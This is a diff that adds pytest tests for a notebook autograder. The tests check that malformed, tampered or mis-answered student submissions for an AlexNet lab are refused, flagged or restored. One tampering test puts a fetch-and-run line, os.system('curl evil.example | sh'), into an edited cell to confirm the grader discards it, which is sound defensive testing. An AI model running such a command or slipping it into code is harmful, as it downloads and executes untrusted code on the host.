@@ -1,0 +1,155 @@
+"""Bad submissions: each gets a clear one-line reason or a flag, and the file is never touched."""
+import copy
+import dataclasses
+import json
+
+import nbformat
+import pytest
+
+import notebooks
+from autograder.errors import SubmissionError
+from autograder.prepare import prepare
+from grading_config import CONFIG
+
+
+def _prepare(tmp_path, course_root, smoke, nb=None, raw=None, config=CONFIG, name="student"):
+    path = tmp_path / f"{name}.ipynb"
+    if raw is not None:
+        path.write_bytes(raw)
+    else:
+        nbformat.write(nb, str(path))
+    before = path.read_bytes()
+    try:
+        return prepare(name, path, course_root, smoke, config)
+    finally:
+        assert path.read_bytes() == before, "the submitted file was modified"
+
+
+def _ids(prepared):
+    nb = nbformat.reads(prepared.notebook, as_version=4)
+    return [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]
+
+
+def _code(prepared):
+    nb = nbformat.reads(prepared.notebook, as_version=4)
+    return {c.metadata["nbgrader"]["grade_id"]: c.source for c in nb.cells if c.cell_type == "code"}
+
+
+@pytest.fixture(scope="module")
+def master_code(tmp_path_factory, course_root, smoke, release_nb):
+    """The code that runs for an untouched release: the reference for every tampering case."""
+    return _code(_prepare(tmp_path_factory.mktemp("clean"), course_root, smoke, release_nb))
+
+
+@pytest.mark.parametrize("raw, words", [
+    (b"\x89PNG\r\n\x1a\n not a notebook", "not JSON"),
+    (b'{"students": ["a", "b"]}', "JSON but not a Jupyter notebook"),
+    (b'{"nbformat": 9, "nbformat_minor": 0, "cells": []}', "newer than"),
+])
+def test_files_that_are_not_notebooks_are_refused_with_a_reason(tmp_path, course_root, smoke, raw, words):
+    with pytest.raises(SubmissionError, match=words) as info:
+        _prepare(tmp_path, course_root, smoke, raw=raw)
+    assert "student.ipynb" in str(info.value) and "\n" not in str(info.value)
+
+
+def test_old_nbformat_is_upgraded_and_graded(tmp_path, course_root, smoke, release_nb, master_code):
+    old = nbformat.convert(notebooks.answer_all(release_nb), 3)
+    prepared = _prepare(tmp_path, course_root, smoke, raw=nbformat.writes(old, version=3).encode())
+    assert any("nbformat 3" in f for f in prepared.flags)
+    assert _code(prepared) == master_code
+    assert all(a.answered for a in prepared.answers)
+
+
+def test_another_assignments_notebook_is_refused(tmp_path, course_root, smoke, release_nb):
+    other = copy.deepcopy(release_nb)
+    other.metadata["alexnet_lab"]["assignment"] = "resnet"
+    with pytest.raises(SubmissionError, match="assignment 'resnet'"):
+        _prepare(tmp_path, course_root, smoke, other)
+    unrelated = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('hello')")])
+    with pytest.raises(SubmissionError, match="not the alexnet notebook"):
+        _prepare(tmp_path, course_root, smoke, unrelated)
+
+
+def test_huge_submission_is_refused_before_parsing(tmp_path, course_root, smoke, release_nb):
+    big = copy.deepcopy(release_nb)
+    cell = notebooks.cell_by_id(big, "pixels")
+    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 3_000_000)]
+    config = dataclasses.replace(CONFIG, limits=dataclasses.replace(CONFIG.limits, submission_mb=1.0))
+    with pytest.raises(SubmissionError, match=r"over the 1 MB limit"):
+        _prepare(tmp_path, course_root, smoke, big, config=config)
+
+
+def test_deleted_duplicated_and_reordered_cells_run_as_the_master(tmp_path, course_root, smoke, release_nb, master_code):
+    nb = notebooks.answer_all(release_nb)
+    ids = [c.metadata["nbgrader"]["grade_id"] for c in nb.cells]
+    nb.cells = [c for c in nb.cells if c.metadata["nbgrader"]["grade_id"] not in ("train", "answer_q2", "check_kernels")]
+    nb.cells.insert(2, copy.deepcopy(notebooks.cell_by_id(nb, "imports")))      # duplicated
+    i, j = ids.index("load_mini"), ids.index("architecture")
+    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]                          # reordered
+    prepared = _prepare(tmp_path, course_root, smoke, nb)
+    assert _code(prepared) == master_code
+    assert _ids(prepared) == ids
+    flags = " | ".join(prepared.flags)
+    for words in ("cell train was deleted", "answer cell answer_q2 was deleted", "grade cell check_kernels was deleted",
+                  "imports appears 2 times", "cells were moved"):
+        assert words in flags
+    q2 = next(a for a in prepared.answers if a.label == "Q2")
+    assert not q2.answered
+
+
+def test_edited_nbgrader_metadata_is_restored(tmp_path, course_root, smoke, release_nb, master_code):
+    nb = notebooks.answer_all(release_nb)
+    train = notebooks.cell_by_id(nb, "train")
+    train.metadata["nbgrader"].update(locked=False, solution=True)                # make it "editable"
+    train.source = "import os\nos.system('curl evil.example | sh')"
+    notebooks.cell_by_id(nb, "check_trajectory").metadata["nbgrader"]["points"] = 100
+    del notebooks.cell_by_id(nb, "predict").metadata["nbgrader"]                  # strip the metadata
+    notebooks.cell_by_id(nb, "check_evidence").metadata["nbgrader"]["grade_id"] = "mine"
+    prepared = _prepare(tmp_path, course_root, smoke, nb)
+    assert _code(prepared) == master_code
+    flags = " | ".join(prepared.flags)
+    assert "metadata of cell train was edited (solution, locked)" in flags
+    assert "check_trajectory was edited (points)" in flags
+    assert "matched to predict by its code" in flags
+    assert "unknown cell ('mine')" in flags
+
+
+def test_answers_typed_into_the_wrong_cells_are_reported(tmp_path, course_root, smoke, release_nb):
+    nb = copy.deepcopy(release_nb)
+    q1 = notebooks.cell_by_id(nb, "question_q1")
+    q1.source += "\n\nBefore 2012 there was too little labelled data and compute for big networks."
+    nb.cells.append(nbformat.v4.new_markdown_cell("Q4b: colour blobs and coarse edges are enough for CIFAR."))
+    prepared = _prepare(tmp_path, course_root, smoke, nb)
+    flags = " | ".join(prepared.flags)
+    assert "text typed into the locked cell question_q1" in flags and "too little labelled data" in flags
+    assert "not an answer cell" in flags and "colour blobs" in flags
+    assert not any(a.answered for a in prepared.answers)
+
+
+def test_short_answers_count_as_unanswered(tmp_path, course_root, smoke, release_nb):
+    nb = notebooks.answer_all(release_nb, text_for=lambda label: "10%" if label == "Q3a" else "Because of data and compute.")
+    prepared = _prepare(tmp_path, course_root, smoke, nb)
+    q3a = next(a for a in prepared.answers if a.label == "Q3a")
+    assert not q3a.answered and "fewer than the 20" in q3a.note
+    assert sum(a.answered for a in prepared.answers) == 6
+
+
+def test_extra_code_is_removed_by_default_and_kept_when_switched_on(tmp_path, course_root, smoke, release_nb):
+    nb = copy.deepcopy(release_nb)
+    nb.cells.insert(10, nbformat.v4.new_code_cell("print('my own experiment')"))
+    assert "my own experiment" not in prepare_text(tmp_path, course_root, smoke, nb, CONFIG)
+    on = dataclasses.replace(CONFIG, limits=dataclasses.replace(CONFIG.limits, run_extra_code=True))
+    assert "my own experiment" in prepare_text(tmp_path, course_root, smoke, nb, on)
+
+
+def prepare_text(tmp_path, course_root, smoke, nb, config):
+    return _prepare(tmp_path, course_root, smoke, nb, config=config).notebook
+
+
+def test_evidence_is_read_before_outputs_are_cleared(tmp_path, course_root, smoke, student_run):
+    prepared = _prepare(tmp_path, course_root, smoke, notebooks.answer_all(student_run))
+    assert len(prepared.evidence["trajectory"]["accuracy"]) == smoke.epochs + 1
+    assert sorted(prepared.evidence["plots"]["kernels"]) == ["pretrained", "trained", "untrained"]
+    cleared = nbformat.reads(prepared.notebook, as_version=4)
+    assert all(not c.get("outputs") for c in cleared.cells if c.cell_type == "code")
+    assert json.loads(prepared.notebook)["metadata"]["alexnet_lab"]["student_id"] == "student"
